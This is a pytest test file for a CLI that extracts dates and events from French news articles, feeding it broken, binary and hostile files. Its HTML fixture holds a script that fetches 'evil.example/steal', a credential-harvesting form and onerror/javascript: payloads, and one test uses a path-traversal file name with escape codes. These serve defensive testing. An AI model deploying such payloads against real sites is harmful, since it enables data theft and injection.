"""Bad input through the real command line: `python -m timeline extract|dates|build` as a subprocess.

One batch holds every kind of bad file next to good ones; each command runs over it once (a module
fixture) and each test checks one file's fate: correct output, or a one-line problem naming the file
and the reason. Nothing else in the batch is lost. The big inputs (50 MB, 10^5 records, 10^4 dates)
are marked ``slow`` and also check the CLI's peak memory (psutil, sampled).
"""

from __future__ import annotations

import io
import json
import os
import struct
import subprocess
import sys
import threading
import time
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import psutil
import pytest

from timeline.settings import MAX_TEXT_CHARS

ROOT = Path(__file__).resolve().parent.parent

#: Peak resident memory allowed to the CLI on a 50 MB text file (spaCy off). Measured ~0.4 GB; the cap
#: leaves room for other libraries' growth, and is far below what reading 50 MB as text several times costs.
RSS_CAP_MB = 1024
#: Generous wall-clock bound per CLI run: the machine is shared, a hang must still fail the test.
RUN_TIMEOUT = 600


# ---------------------------------------------------------------- running the CLI


@dataclass
class Run:
    returncode: int
    stdout: str
    stderr: str
    peak_rss_mb: float
    seconds: float

    def jsonl(self) -> list[dict[str, Any]]:
        return [json.loads(line) for line in self.stdout.splitlines() if line.strip()]


def run_cli(*args: str | Path, cwd: Path = ROOT, timeout: float = RUN_TIMEOUT) -> Run:
    """Run `python -m timeline ARGS` and sample its resident memory every 20 ms."""
    started = time.monotonic()
    proc = psutil.Popen([sys.executable, "-m", "timeline", *map(str, args)], cwd=cwd,
                        stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                        env={**os.environ, "PYTHONIOENCODING": "utf-8"})
    peak = 0
    stop = threading.Event()

    def sample() -> None:
        nonlocal peak
        while not stop.is_set():
            try:
                peak = max(peak, proc.memory_info().rss)
            except psutil.Error:
                return
            stop.wait(0.02)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    try:
        out, err = proc.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.communicate()
        pytest.fail(f"`timeline {' '.join(map(str, args))}` ran longer than {timeout} s")
    finally:
        stop.set()
        sampler.join()
    return Run(proc.returncode, out.decode("utf-8", "replace"), err.decode("utf-8", "replace"), peak / 2**20,
               time.monotonic() - started)


def assert_clean_stderr(run: Run) -> None:
    """No traceback, and every line is a one-line 'error:'/'warning:' or click's 'Error:'."""
    assert "Traceback" not in run.stderr, run.stderr[-3000:]
    for line in run.stderr.splitlines():
        assert line.startswith(("error: ", "warning: ", "Error: ", "build finished", "  ", "WARNING ")), line


# ---------------------------------------------------------------- crafted files


def sentence(day: int, what: str = "la conférence nationale sur le numérique") -> str:
    return (f"Le {day} mars 2025, le ministre des Affaires étrangères a inauguré à Hanoï {what}, "
            "en présence de nombreux délégués.\n")


def png_bytes() -> bytes:
    """A real 1x1 PNG image."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def pdf_bytes() -> bytes:
    return (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")


def zip_bytes() -> bytes:
    """A real ZIP archive holding an article (a zipped article is still not an article)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("article.txt", sentence(1))
    return buffer.getvalue()


HOSTILE_HTML = (
    "<!doctype html><html lang='fr'><head><title>Visite officielle</title>"
    "<script>window.__pwned = 1; fetch('http://evil.example/steal')</script></head><body>"
    "<iframe src='http://evil.example/frame'></iframe>"
    "<form action='http://evil.example/post'><input name='password'><button>Envoyer</button></form>"
    "<article><h1>Visite officielle</h1><p>" + sentence(9).strip() + "</p>"
    "<p><a href='javascript:alert(1)'>clic</a> <a href='data:text/html,<script>alert(2)</script>'>data</a>"
    " <img src=x onerror='window.__pwned=2'></p></article></body></html>"
)

#: The bad files of the batch: name -> (bytes, words the problem's reason must contain).
BAD: dict[str, tuple[bytes, str]] = {
    "00_empty.txt": (b"", "empty file (0 bytes)"),
    "01_blank.txt": (b"  \n\n\t  \n", "only blank space"),
    "02_image.txt": (png_bytes(), "binary file (PNG image)"),
    "03_report.html": (pdf_bytes(), "binary file (PDF document)"),
    "04_archive.json": (zip_bytes(), "binary file (ZIP archive"),
    "05_broken.json": (b'{"text": "Le 4 mars 2025, le ministre", "title": ', "malformed JSON"),
    "06_photo.png": (png_bytes(), "unknown file type (.png)"),
}
#: The good files: name -> bytes. Each yields at least one event whose sources name it.
GOOD: dict[str, bytes] = {
    "10_utf8.txt": sentence(3).encode("utf-8"),
    "11_invalid_utf8.txt": sentence(4).encode("utf-8") + b"\xff\xfe\xfa garbage bytes \xc3\x28\n",
    "12_utf16_bom.txt": sentence(5).encode("utf-16"),
    "13_latin1.txt": (sentence(6) + "Le délégué a déclaré que la coopération était très étroite.\n").encode("latin-1"),
    "14_hostile.html": HOSTILE_HTML.encode("utf-8"),
    "15_bad_line.jsonl": b"\n".join([
        json.dumps({"text": sentence(7), "title": "Conférence"}).encode(),
        b'{"text": "broken line", ',
        json.dumps({"text": sentence(8, "le forum économique"), "title": "Forum"}).encode(),
    ]) + b"\n",
    "16_evil\x1b[31m\nname.txt": sentence(10).encode("utf-8"),
}
JSONL_BAD_LINE = 2

#: Known bugs, kept as strict xfails until fixed (see docs/RELIABILITY.md): name -> marks.
GOOD_MARKS: dict[str, list[Any]] = {}


def good_params() -> list[Any]:
    return [pytest.param(name, id=shown(name), marks=GOOD_MARKS.get(name, [])) for name in GOOD]


def write_batch(folder: Path) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, data in {**{k: v[0] for k, v in BAD.items()}, **GOOD}.items():
        (folder / name).write_bytes(data)
        paths.append(folder / name)
    return paths


def shown(name: str) -> str:
    """How a file name appears in messages (control characters escaped)."""
    from timeline.extraction.ingest import display_name

    return display_name(name)


@pytest.fixture(scope="module")
def batch(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    paths = write_batch(tmp_path_factory.mktemp("batch") / "in")
    # One good file given through a path with '../' in it: it is just a path, read like any other.
    detour = paths[0].parent / ".." / paths[0].parent.name / "10_utf8.txt"
    return [p if p.name != "10_utf8.txt" else detour for p in paths]


@pytest.fixture(scope="module")
def extract_run(batch: list[Path]) -> Run:
    return run_cli("extract", *batch, "--no-ner", "--format", "jsonl")


@pytest.fixture(scope="module")
def dates_run(batch: list[Path]) -> Run:
    return run_cli("dates", *batch, "--format", "jsonl")


@pytest.fixture(scope="module")
def build_run(batch: list[Path], tmp_path_factory: pytest.TempPathFactory) -> tuple[Run, Path]:
    where = tmp_path_factory.mktemp("store") / "store"
    return run_cli("build", batch[0].parent, "--store", where), where


def problem_lines(run: Run, name: str) -> list[str]:
    return [line for line in run.stderr.splitlines() if shown(name) in line]


# ---------------------------------------------------------------- extract


def test_extract_over_a_mixed_batch_succeeds(extract_run: Run) -> None:
    assert extract_run.returncode == 0, extract_run.stderr[-3000:]
    assert_clean_stderr(extract_run)


@pytest.mark.parametrize("name", list(BAD), ids=list(BAD))
def test_extract_names_each_bad_file_and_its_reason(extract_run: Run, name: str) -> None:
    lines = problem_lines(extract_run, name)
    assert len(lines) == 1, extract_run.stderr
    assert lines[0].startswith("error: ")
    assert BAD[name][1] in lines[0]
    assert "Fix: " in lines[0]


@pytest.mark.parametrize("name", good_params())
def test_extract_keeps_every_good_files_events(extract_run: Run, name: str) -> None:
    sources = {s for row in extract_run.jsonl() for s in row["sources"]}
    assert any(s == shown(name) or s.startswith(shown(name) + "#") for s in sources), sorted(sources)


def test_extract_keeps_the_accents_of_a_file_with_a_few_invalid_bytes(extract_run: Run) -> None:
    rows = [row for row in extract_run.jsonl() if "11_invalid_utf8.txt" in row["sources"]]
    assert rows
    dumped = json.dumps(rows, ensure_ascii=False)
    assert "Ã" not in dumped and "inauguré" in dumped


def test_extract_reports_the_bad_jsonl_line_and_keeps_the_others(extract_run: Run) -> None:
    (line,) = problem_lines(extract_run, "15_bad_line.jsonl")
    assert f"line {JSONL_BAD_LINE}:" in line and "malformed JSON" in line
    sources = {s for row in extract_run.jsonl() for s in row["sources"]}
    assert len({s for s in sources if s.startswith("15_bad_line.jsonl#")}) == 2


def test_extract_never_outputs_script_or_markup_from_html(extract_run: Run) -> None:
    html_rows = [row for row in extract_run.jsonl() if "14_hostile.html" in row["sources"]]
    assert html_rows
    dumped = json.dumps(html_rows, ensure_ascii=False)
    for needle in ("__pwned", "evil.example", "<script", "onerror", "<iframe", "password"):
        assert needle not in dumped


def test_control_characters_in_a_file_name_are_escaped_in_messages(extract_run: Run) -> None:
    assert "\x1b" not in extract_run.stderr and "\x1b" not in extract_run.stdout


# ---------------------------------------------------------------- dates


def test_dates_over_a_mixed_batch_succeeds(dates_run: Run) -> None:
    assert dates_run.returncode == 0, dates_run.stderr[-3000:]
    assert_clean_stderr(dates_run)


@pytest.mark.parametrize("name", list(BAD), ids=list(BAD))
def test_dates_names_each_bad_file(dates_run: Run, name: str) -> None:
    (line,) = problem_lines(dates_run, name)
    assert BAD[name][1] in line


@pytest.mark.parametrize("name", good_params())
def test_dates_finds_each_good_files_date_at_the_right_offset(dates_run: Run, name: str) -> None:
    rows = [r for r in dates_run.jsonl() if r["doc"] == shown(name) or r["doc"].startswith(shown(name) + "#")]
    assert any(r["value"].startswith("2025-03-") and r["end"] > r["start"] >= 0 for r in rows), rows


# ---------------------------------------------------------------- build


def test_build_over_a_mixed_folder_succeeds_and_lists_failures(build_run: tuple[Run, Path]) -> None:
    run, _ = build_run
    assert run.returncode == 0, run.stderr[-3000:]
    assert "Traceback" not in run.stderr
    failed = run.stderr.split("failed:", 1)[1]
    for name in BAD:
        if not name.endswith(".png"):  # an unknown type in a folder is ignored (a warning), not failed
            assert name in failed, (name, failed)


def test_build_stores_every_good_files_events(build_run: tuple[Run, Path]) -> None:
    from timeline import store

    _, where = build_run
    events = store.read_events(where)
    assert events["event_id"].is_unique
    sources = {s for row in events["sources"] for s in row}
    for name in GOOD:
        assert any(s == shown(name) or s.startswith(shown(name) + "#") for s in sources), (name, sources)


# ---------------------------------------------------------------- nothing readable: non-zero, one line each


@pytest.mark.parametrize("command", ["extract", "dates", "build"])
def test_nothing_readable_exits_non_zero_with_one_line_reasons(tmp_path: Path, command: str) -> None:
    folder = tmp_path / "bad"
    folder.mkdir()
    for name in ("00_empty.txt", "02_image.txt", "05_broken.json"):
        (folder / name).write_bytes(BAD[name][0])
    extra = ["--store", str(tmp_path / "store")] if command == "build" else []
    run = run_cli(command, *sorted(folder.iterdir()), *extra)
    assert run.returncode != 0
    assert "Traceback" not in run.stderr
    for name in ("00_empty.txt", "02_image.txt", "05_broken.json"):
        assert any(name in line and BAD[name][1] in line for line in run.stderr.splitlines()), run.stderr


@pytest.mark.parametrize("command", ["extract", "dates"])
def test_a_missing_path_is_one_line_and_non_zero(tmp_path: Path, command: str) -> None:
    run = run_cli(command, tmp_path / "nope.txt")
    assert run.returncode != 0
    assert run.stderr.strip().splitlines() == [f"error: {tmp_path / 'nope.txt'}: no such file or folder. "
                                               "Fix: check the path (and its spelling)"]


def test_a_bad_option_value_is_one_line_usage_error(tmp_path: Path) -> None:
    run = run_cli("extract", ROOT / "seeds", "--reference-date", "20/12/2025")
    assert run.returncode == 2
    assert "Traceback" not in run.stderr
    assert "YYYY-MM-DD" in run.stderr


# ---------------------------------------------------------------- a corrupt store through the CLI


@pytest.fixture()
def corrupt_store(tmp_path: Path) -> tuple[Path, Path]:
    """(corpus, store): a built store whose events.parquet was then overwritten with garbage."""
    from timeline import store

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "a.txt").write_text(sentence(3), encoding="utf-8")
    where = tmp_path / "store"
    assert run_cli("build", corpus, "--store", where).returncode == 0
    (store.current_snapshot(where) / store.EVENTS_FILE).write_bytes(b"not parquet" * 10)
    return corpus, where


def one_error_line(run: Run) -> str:
    assert run.returncode != 0, run.stderr
    assert "Traceback" not in run.stderr
    (line,) = [ln for ln in run.stderr.splitlines() if ln.startswith("Error: ")]
    return line


def test_stats_on_a_corrupt_store_is_one_line_naming_the_file_and_the_fix(corrupt_store: tuple[Path, Path]) -> None:
    _, where = corrupt_store
    line = one_error_line(run_cli("stats", "--store", where))
    assert "events.parquet" in line and "delete the store folder" in line


def test_build_on_a_corrupt_store_refuses_or_repairs(corrupt_store: tuple[Path, Path]) -> None:
    from timeline import store

    corpus, where = corrupt_store
    run = run_cli("build", corpus, "--store", where)
    if run.returncode == 0:
        assert len(store.read_events(where)) == 1
    else:
        assert "delete the store folder" in one_error_line(run)


def test_deleting_a_corrupt_store_and_building_again_repairs_it(corrupt_store: tuple[Path, Path]) -> None:
    import shutil

    corpus, where = corrupt_store
    shutil.rmtree(where)
    assert run_cli("build", corpus, "--store", where).returncode == 0
    stats = run_cli("stats", "--store", where)
    assert stats.returncode == 0, stats.stderr
    assert "events by type:" in stats.stdout


# ---------------------------------------------------------------- big inputs: caps reported, memory bounded


def _write_big_text(path: Path, megabytes: int) -> None:
    block = sentence(12) * 8
    with path.open("w", encoding="utf-8") as fh:
        written = 0
        while written < megabytes * 2**20:
            fh.write(block)
            written += len(block.encode("utf-8"))


@pytest.fixture(scope="module")
def big_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("big") / "huge.txt"
    _write_big_text(path, 50)
    return path


@pytest.mark.slow
def test_a_50_mb_file_is_cut_reported_and_memory_stays_bounded(big_file: Path) -> None:
    run = run_cli("dates", big_file, "--format", "jsonl")
    assert run.returncode == 0, run.stderr[-3000:]
    assert_clean_stderr(run)
    (warning,) = [line for line in run.stderr.splitlines() if line.startswith("warning: ")]
    assert f"first {MAX_TEXT_CHARS:,} characters" in warning and "huge.txt" in warning
    assert run.jsonl(), "the kept part still yields its dates"
    assert max(r["end"] for r in run.jsonl()) <= MAX_TEXT_CHARS
    assert run.peak_rss_mb < RSS_CAP_MB, f"peak RSS {run.peak_rss_mb:.0f} MB"


@pytest.mark.slow
def test_extracting_events_from_a_50_mb_file_stays_bounded(big_file: Path) -> None:
    run = run_cli("extract", big_file, "--no-ner", "--format", "jsonl")
    assert run.returncode == 0, run.stderr[-3000:]
    assert_clean_stderr(run)
    assert any("huge.txt" in line and "characters were read" in line for line in run.stderr.splitlines())
    assert run.jsonl(), "the kept part still yields its events"
    assert run.peak_rss_mb < RSS_CAP_MB, f"peak RSS {run.peak_rss_mb:.0f} MB"


@pytest.mark.slow
def test_a_single_5_mb_line_is_read_without_error(tmp_path: Path) -> None:
    path = tmp_path / "line.txt"
    path.write_text(sentence(11).strip() + " " + "x" * 5_000_000 + "\n", encoding="utf-8")
    run = run_cli("extract", path, "--no-ner")
    assert run.returncode == 0, run.stderr[-3000:]
    assert_clean_stderr(run)
    assert any("first" in line and "characters" in line for line in run.stderr.splitlines())
    assert run.peak_rss_mb < RSS_CAP_MB


@pytest.mark.slow
def test_a_json_list_of_100k_records_is_read(tmp_path: Path) -> None:
    path = tmp_path / "many.json"
    records = [{"text": f"Réunion numéro {i}.", "title": f"r{i}"} for i in range(100_000)]
    records[50_000] = {"title": "no text here"}
    path.write_text(json.dumps(records), encoding="utf-8")
    run = run_cli("dates", path)
    assert run.returncode == 0, run.stderr[-3000:]
    assert_clean_stderr(run)
    (line,) = [ln for ln in run.stderr.splitlines() if "many.json" in ln]
    assert "record 50001 has no 'text' field" in line
    assert run.peak_rss_mb < RSS_CAP_MB


@pytest.mark.slow
def test_ten_thousand_dates_in_one_article(tmp_path: Path) -> None:
    path = tmp_path / "dates.txt"
    months = ("janvier", "mars", "mai", "juillet")
    phrases = [f"le {1 + i % 28} {months[i % 4]} {1950 + i % 100}" for i in range(10_000)]
    path.write_text(", ".join(phrases) + ".\n" + sentence(13), encoding="utf-8")
    run = run_cli("dates", path)
    assert run.returncode == 0, run.stderr[-3000:]
    assert_clean_stderr(run)
    rows = run.jsonl()
    text = path.read_text(encoding="utf-8")
    assert len(rows) >= 10_000
    assert all(text[r["start"]:r["end"]] == r["text"] for r in rows)


# ---------------------------------------------------------------- the same files through the uploader (read_bytes)


@pytest.mark.parametrize("name", list(BAD), ids=list(BAD))
def test_uploader_names_each_bad_file_and_its_reason(name: str) -> None:
    from timeline.extraction.ingest import read_bytes

    articles, problems = read_bytes(name, BAD[name][0])
    assert articles == []
    (problem,) = problems
    assert problem.severity == "error" and problem.file == name
    assert BAD[name][1] in problem.reason and problem.fix


@pytest.fixture(scope="module")
def uploaded_batch() -> Any:
    """The whole batch through uploads.read_files, what the page's upload worker runs (caps off)."""
    from timeline.dashboard import uploads
    from timeline.settings import Options

    files = [(name, data) for name, (data, _) in BAD.items()] + list(GOOD.items())
    return uploads.read_files(files, "en", max_files=100, max_mb=100, options=Options(use_ner=False))


@pytest.mark.parametrize("name", good_params())
def test_uploader_keeps_every_good_files_events(uploaded_batch: Any, name: str) -> None:
    sources = {s for cell in uploaded_batch.events["sources"] for s in cell}
    assert any(s == shown(name) or s.startswith(shown(name) + "#") for s in sources), sorted(sources)


def test_uploader_lists_every_bad_file(uploaded_batch: Any) -> None:
    files = {p.file for p in uploaded_batch.problems if p.severity == "error"}
    assert set(BAD) <= files
    assert "15_bad_line.jsonl" in files, "the bad JSONL line is reported too"


def test_uploader_reduces_hostile_names_to_their_last_part() -> None:
    from timeline.extraction.ingest import read_bytes

    articles, problems = read_bytes("../../../etc/cron.d/\x1b[2Jevil\r\n.txt", sentence(3).encode())
    assert problems == []
    (article,) = articles
    assert article.id == "\\x1b[2Jevil\\r\\n.txt"
    assert not any(c in article.source for c in "\x1b\r\n"), "a label only, control characters escaped"


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["5-mb-line", "100k-records", "10k-dates"])
def test_uploader_big_inputs(kind: str) -> None:
    from timeline.extraction.ingest import read_bytes

    if kind == "5-mb-line":
        articles, problems = read_bytes("line.txt", ("x" * 5_000_000).encode())
        assert len(articles[0].text) == MAX_TEXT_CHARS
        assert [p.severity for p in problems] == ["warning"] and "first" in problems[0].reason
    elif kind == "100k-records":
        data = json.dumps([{"text": f"Réunion numéro {i}."} for i in range(100_000)]).encode()
        articles, problems = read_bytes("many.json", data)
        assert (len(articles), problems) == (100_000, [])
    else:
        text = ", ".join(f"le {1 + i % 28} mars {1950 + i % 100}" for i in range(10_000))
        articles, problems = read_bytes("dates.txt", text.encode())
        assert problems == [] and articles[0].text == text


@pytest.mark.slow
def test_more_dates_than_the_cap_are_cut_and_said(tmp_path: Path) -> None:
    from timeline.settings import MAX_DATES_PER_ARTICLE

    path = tmp_path / "dates.txt"
    n = MAX_DATES_PER_ARTICLE + 5_000
    path.write_text(", ".join(f"le {1 + i % 28} mars {1950 + i % 100}" for i in range(n)) + ".\n", encoding="utf-8")
    run = run_cli("dates", path)
    assert run.returncode == 0, run.stderr[-3000:]
    assert "Traceback" not in run.stderr
    assert any(f"more than {MAX_DATES_PER_ARTICLE}" in line for line in run.stderr.splitlines()), run.stderr[-2000:]
    text = path.read_text(encoding="utf-8")
    rows = run.jsonl()
    assert MAX_DATES_PER_ARTICLE <= len(rows) <= n  # the cap stops the later steps, not the one that hit it
    assert all(text[r["start"]:r["end"]] == r["text"] for r in rows)


# ---------------------------------------------------------------- an unexpected error inside the package

FAULT = """
import sys
from timeline.extraction import pipeline
def fault(*args, **kwargs):
    raise RuntimeError("injected fault in the extraction")
pipeline.extract = fault
from timeline.cli import main
sys.argv = ["timeline", "extract", *sys.argv[1:]]
main()
"""


def test_an_unexpected_error_is_one_line_without_traceback(tmp_path: Path) -> None:
    article = tmp_path / "a.txt"
    article.write_text(sentence(3), encoding="utf-8")
    proc = subprocess.run([sys.executable, "-c", FAULT, str(article)], cwd=ROOT, capture_output=True, text=True,
                          timeout=RUN_TIMEOUT)
    assert proc.returncode != 0
    assert "Traceback" not in proc.stderr, proc.stderr[-2000:]
    assert len(proc.stderr.strip().splitlines()) == 1 and "injected fault" in proc.stderr


# ---------------------------------------------------------------- two builds at once, from two terminals


@pytest.mark.slow
def test_two_cli_builds_at_once_never_interleave(tmp_path: Path) -> None:
    """Two real `build` processes started together on one store: one refuses (one line) or waits; the store
    ends up exactly as one build makes it."""
    from timeline import store

    corpus = tmp_path / "corpus"
    corpus.mkdir()
    for day in range(1, 7):
        (corpus / f"a{day}.txt").write_text(sentence(day, f"la conférence numéro {day}"), encoding="utf-8")
    where = tmp_path / "store"
    cmd = [sys.executable, "-m", "timeline", "build", str(corpus), "--store", str(where)]
    procs = [subprocess.Popen(cmd, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             for _ in range(2)]
    results = []
    for proc in procs:
        _, err = proc.communicate(timeout=RUN_TIMEOUT)
        results.append((proc.returncode, err))
    assert any(code == 0 for code, _ in results), results
    for code, err in results:
        assert "Traceback" not in err
        if code != 0:
            (line,) = [ln for ln in err.splitlines() if ln.startswith("Error: ")]
            assert "another build" in line
    reference = tmp_path / "reference"
    assert run_cli("build", corpus, "--store", reference).returncode == 0
    events = store.read_events(where)
    assert events["event_id"].is_unique
    assert sorted(events["event_id"]) == sorted(store.read_events(reference)["event_id"])
